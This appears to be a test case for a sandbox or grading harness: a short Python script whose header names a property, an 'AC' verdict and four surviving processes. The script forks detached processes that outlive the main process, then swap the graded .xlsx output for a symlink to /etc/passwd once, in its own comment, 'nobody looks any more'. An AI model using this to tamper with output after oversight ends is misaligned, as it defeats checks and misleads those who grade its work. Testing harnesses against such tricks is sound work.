# property: the output cannot be swapped after the main process has ended
# verdict: AC
# survivors: 4
import os, time
path = "/mnt/data/output/1_1_output.xlsx"
main = os.getpid()
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            if os.getppid() != main:  # the main process is gone: now nobody looks any more
                time.sleep(1)
                os.symlink("/etc/passwd", f"{path}.{os.getpid()}")
                os.rename(f"{path}.{os.getpid()}", path)

import openpyxl
book = openpyxl.Workbook()
book.active["A1"] = 42
book.save("/mnt/data/output/1_1_output.xlsx")
